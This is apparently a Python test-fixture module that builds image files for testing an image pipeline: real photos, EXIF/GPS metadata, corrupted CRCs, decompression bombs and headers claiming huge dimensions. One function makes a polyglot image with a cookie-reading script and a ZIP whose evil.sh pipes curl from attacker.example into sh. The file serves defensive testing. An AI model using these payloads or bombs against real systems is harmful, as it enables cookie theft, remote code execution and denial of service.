"""Test-image factories: real photographs from scikit-image's data folder and files built with
Pillow (or by hand, for headers Pillow would refuse to write or that would need gigabytes)."""

from __future__ import annotations

import functools
import importlib.util
import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

from PIL import Image


def _skimage_data() -> Path:
    # Located, not imported: `import skimage` is slow and unnecessary for reading files.
    spec = importlib.util.find_spec("skimage")
    assert spec is not None, "scikit-image is a dev dependency"
    assert spec.submodule_search_locations
    return Path(spec.submodule_search_locations[0]) / "data"


SKIMAGE_DATA = _skimage_data()


def photo(name: str) -> bytes:
    """A real photograph shipped with scikit-image (astronaut.png, chelsea.png, rocket.jpg, ...)."""
    return (SKIMAGE_DATA / name).read_bytes()


def encode(image: Image.Image, fmt: str, **params: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def decode(data: bytes) -> Image.Image:
    """A fully loaded image from bytes."""
    with Image.open(io.BytesIO(data)) as image:
        image.load()
        return image.copy()


def solid(fmt: str, size: tuple[int, int] = (64, 48), color: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    return encode(Image.new("RGB", size, color), fmt)


def photo_as(name: str, fmt: str, **params: Any) -> bytes:
    """A real photograph re-saved in another format (e.g. a WebP made from coffee.png)."""
    with Image.open(SKIMAGE_DATA / name) as image:
        return encode(image.convert("RGB"), fmt, **params)


def animation(fmt: str, frames: int = 5, size: tuple[int, int] = (20, 20)) -> bytes:
    images = [Image.new("RGB", size, (40 * i % 256, 255 - 30 * i % 256, 90)) for i in range(frames)]
    return encode(images[0], fmt, save_all=True, append_images=images[1:], duration=80, loop=0)


def halves_with_orientation(orientation: int, size: tuple[int, int] = (320, 200)) -> bytes:
    """A JPEG whose stored left half is red and right half blue, with EXIF Orientation and a
    GPS IFD, a camera name and a comment, all of which must be gone after re-encoding."""
    image = Image.new("RGB", size, (220, 20, 20))
    image.paste((20, 20, 220), (size[0] // 2, 0, size[0], size[1]))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "RetinaCam"
    exif[0x0110] = "Model-XYZ-123"
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)})
    return encode(image, "JPEG", exif=exif, comment=b"secret note", quality=95)


def with_payload(data: bytes) -> bytes:
    """A polyglot: a valid image with an HTML script and a ZIP archive appended."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("evil.sh", "#!/bin/sh\ncurl http://attacker.example | sh\n")
    return data + b"<script>alert(document.cookie)</script>" + archive.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_chunks(data: bytes) -> list[tuple[bytes, int, int]]:
    """(type, offset of the length field, data length) of every chunk of a PNG, in file order."""
    found, offset = [], 8
    while offset + 8 <= len(data):
        (length,) = struct.unpack(">I", data[offset : offset + 4])
        found.append((data[offset + 4 : offset + 8], offset, length))
        offset += 12 + length
    return found


def with_bad_crc(data: bytes, kind: bytes, index: int = 0) -> bytes:
    """`data` with one byte of the CRC of its `index`-th `kind` chunk flipped (nothing else changed)."""
    _kind, offset, length = [chunk for chunk in png_chunks(data) if chunk[0] == kind][index]
    damaged = bytearray(data)
    damaged[offset + 8 + length] ^= 0x5A
    return bytes(damaged)


def png_bomb(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of zeros: a few kilobytes on disk, width*height pixels in memory.

    Built by hand, row by row, so making it needs no more memory than one row."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def png_with_text_bomb(size: tuple[int, int] = (64, 48), chunks: int = 63) -> bytes:
    """A valid PNG with `chunks` compressed text chunks before its pixels, each inflating to
    almost 1 MiB (Pillow's limit for one chunk): about 1 KB each on disk."""
    text = zlib.compress(b" " * (1024 * 1024 - 64), 9)
    texts = b"".join(_png_chunk(b"zTXt", b"note%d\x00\x00" % index + text) for index in range(chunks))
    plain = solid("PNG", size)
    return plain[:33] + texts + plain[33:]  # after the signature and IHDR


def gif_growing_canvas(width: int, height: int) -> bytes:
    """A 4x4 GIF whose first frame claims width x height: Pillow grows the canvas to it."""
    data = bytearray(encode(Image.new("P", (4, 4)), "GIF"))
    index = data.index(b",", 13)  # the image descriptor, after the screen and its palette
    assert data[index + 1 : index + 9] == struct.pack("<HHHH", 0, 0, 4, 4)
    data[index + 5 : index + 9] = struct.pack("<HH", width, height)
    return bytes(data)


def webp_claiming_canvas(width: int, height: int) -> bytes:
    """An extended (VP8X) WebP whose header claims a huge canvas around a tiny real image."""
    small = encode(Image.new("RGB", (8, 8), (1, 2, 3)), "WEBP", lossless=True)
    assert small[12:16] == b"VP8L"
    image_chunk = small[12:]
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00" * 4
    vp8x += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + vp8x + image_chunk
    return b"RIFF" + struct.pack("<I", len(body)) + body


@functools.cache
def twelve_megapixel(fmt: str) -> bytes:
    """A 4000x3000 photo-like image tiled from real photographs (detail everywhere, like a
    phone photo; a smooth upscale would decode and encode unrealistically fast)."""
    sources = ["astronaut.png", "coffee.png", "chelsea.png", "motorcycle_left.png", "ihc.png"]
    tiles = []
    for name in sources:
        with Image.open(SKIMAGE_DATA / name) as image:
            tiles.append(image.convert("RGB").crop((0, 0, 400, 300)))
    canvas = Image.new("RGB", (4000, 3000))
    for index in range(100):
        canvas.paste(tiles[index % len(tiles)], ((index % 10) * 400, (index // 10) * 300))
    if fmt == "PNG":
        return encode(canvas, "PNG", compress_level=1)
    return encode(canvas, fmt, quality=92)


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose SOF header is patched to claim other dimensions."""
    data = bytearray(encode(Image.new("RGB", (16, 16), (9, 99, 199)), "JPEG"))
    index = 2
    while data[index] == 0xFF and data[index + 1] != 0xC0:
        index += 2 + int.from_bytes(data[index + 2 : index + 4], "big")
    assert data[index : index + 2] == b"\xff\xc0", "Pillow writes baseline JPEGs"
    data[index + 5 : index + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


@functools.cache
def webp_bomb(width: int = 8000, height: int = 5000) -> bytes:
    """A valid lossless WebP of one colour: a few dozen bytes that decode to width*height RGB
    pixels (libwebp's fastest lossless setting writes a single-symbol bitstream)."""
    return encode(Image.new("RGB", (width, height)), "WEBP", lossless=True, quality=0, method=0)
